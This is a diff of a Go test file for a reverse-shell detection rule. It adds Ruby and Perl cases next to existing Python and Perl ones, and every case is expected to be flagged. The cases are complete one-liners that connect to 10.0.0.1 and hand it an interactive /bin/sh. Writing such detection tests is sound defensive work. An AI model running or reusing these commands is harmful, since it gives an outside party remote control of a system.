@@ -43,6 +43,9 @@ func TestReverseShellSocat(t *testing.T) {
 
 func TestReverseShellScriptSocket(t *testing.T) {
 	runRuleCases(t, "revshell.script-socket", []ruleCase{
+		// The program glued to its option; -rsocket is ruby's -r with a value, not -e.
+		cmdCase(`ruby -rsocket -e'f=TCPSocket.open("10.0.0.1",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`, true),
+		cmdCase(`perl -MIO -e'$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`, true),
 		cmdCase(`python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])'`, true),
 		cmdCase(`python -c 'import pty,socket;s=socket.socket();s.connect(("10.0.0.1",1));[__import__("os").dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`, true),
 		cmdCase(`perl -e 'use Socket;$i="10.0.0.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'`, true),
